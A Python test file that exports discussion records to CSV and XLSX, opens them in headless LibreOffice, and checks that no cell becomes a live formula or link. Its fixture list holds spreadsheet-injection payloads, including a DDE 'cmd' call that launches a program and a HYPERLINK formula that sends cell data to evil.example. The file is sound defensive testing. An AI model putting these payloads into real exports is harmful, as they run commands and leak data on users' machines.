"""Hostile text in a real spreadsheet program: no formula lives, and every text is there as it was said."""

from __future__ import annotations

import re
import shutil
import subprocess
from collections.abc import Iterator
from xml.etree import ElementTree

import pytest

from chaosnb.protocol.events import Agent, ConsensusDiscussion
from chaosnb.store.formulas import DEFUSED
from tests.captures import Held

INSTALL = "apt-get install --no-install-recommends libreoffice-calc"
NAMES = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
TABLE, TEXT = f"{{{NAMES['table']}}}", f"{{{NAMES['text']}}}"
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "  =",
    "\N{EM SPACE}=",
    "\N{FULLWIDTH EQUALS SIGN}",
    "'=",
    "'",
)
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"click")',
    "2+5+cmd",
)
TEXTS = [
    *(start + body for start in STARTS for body in BODIES),
    "{=1+1}",
    "DDE(1)",
    '<r><t>a</t></is></c><c r="Z1"><f>1+1</f></c></r>',
    "<r></r>",
    "<table:table-cell table:formula='of:=1+1'/>",
    "]]>&amp;<!-- -->&#x3D;1",
    "_x003D_1+1",
    "_x005F_x003D_",
    "_x0041_x0042_",
    "<r>_x003D_x0041_ 1</r>",
    'say "hi", ok; or\tnot',
    "http://evil.example",
    "mailto:a@b.example",
    "zwölf 🦄",
]
# In CSV a spreadsheet takes these for numbers, quoted or not.
NUMBERS = ["1e5", "1/2", "2026-11-23", "TRUE", "007"]


def spoken() -> Held:
    """An agent whose name is a formula says it all."""
    agent = Agent("=1+1", '@SUM("x")')
    stamp = "2026-11-23T00:36:12.345Z"
    return Held(
        ConsensusDiscussion(f"{place}", agent, text, "=2", ("=3",), stamp)
        for place, text in enumerate(TEXTS + NUMBERS)
    )


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> dict[str, ElementTree.Element]:
    """The table as LibreOffice opened it, from each format, in its own XML."""
    soffice = shutil.which("soffice")
    assert soffice is not None, f"LibreOffice Calc is not installed (on Debian: {INSTALL})"
    folder = tmp_path_factory.mktemp("spreadsheets")
    for format in ("csv", "xlsx"):
        path = spoken().export(folder / format, format=format) / f"consensus_discussion.{format}"
        path.rename(folder / f"{format}.{format}")
    command = [soffice, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless"]
    command += ["--convert-to", "fods", "--outdir", str(folder), str(folder / "xlsx.xlsx")]
    # The filter of CSV would else ask: comma, double quote, UTF-8, from the first line on.
    command[-1:] = ["--infilter=CSV:44,34,76,1", str(folder / "csv.csv"), str(folder / "xlsx.xlsx")]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return {format: ElementTree.parse(folder / f"{format}.fods").getroot() for format in ("csv", "xlsx")}


def rows_of(document: ElementTree.Element) -> Iterator[list[str]]:
    """The text of each cell, of all rows."""
    for row in document.iter(f"{TABLE}table-row"):
        cells = []
        for cell in row.iter(f"{TABLE}table-cell"):
            text = "\n".join(_words(line) for line in cell.findall("text:p", NAMES))
            cells += [text] * int(cell.get(f"{TABLE}number-columns-repeated", 1))
        if any(cells):
            yield cells


def _words(line: ElementTree.Element) -> str:
    """The text of a paragraph, in which blanks and tabs are elements."""
    words = line.text or ""
    for part in line:
        if part.tag == f"{TEXT}s":
            words += " " * int(part.get(f"{TEXT}c", 1))
        words += "\t" if part.tag == f"{TEXT}tab" else _words(part)
        words += part.tail or ""
    return words


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_no_cell_is_a_formula_or_a_link(opened: dict[str, ElementTree.Element], format: str) -> None:
    """Not one, in whatever the program made of the file."""
    cells = list(opened[format].iter(f"{TABLE}table-cell"))
    assert len(cells) > len(TEXTS)
    assert not [cell.attrib for cell in cells if f"{TABLE}formula" in cell.attrib]
    assert not list(opened[format].iter(f"{TEXT}a"))


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_every_text_is_shown_as_it_was_said(opened: dict[str, ElementTree.Element], format: str) -> None:
    """But for the quote before what looks like a formula, in CSV; the program shows line ends as its own."""
    held = spoken().consensus_discussion
    head, *rows = rows_of(opened[format])
    assert head[: len(held.columns)] == list(held.columns)
    shown = {row[1].strip("'"): row[4] for row in rows}
    assert len(shown) == len(TEXTS + NUMBERS)
    for place, text in enumerate(TEXTS + NUMBERS if format == "xlsx" else TEXTS):
        words = shown[str(place)].replace("\r", "\n")
        is_quoted = format == "csv" and re.match(DEFUSED, words)
        assert words[bool(is_quoted) :] == text.replace("\r", "\n"), f"{text!r} is shown as {words!r}"
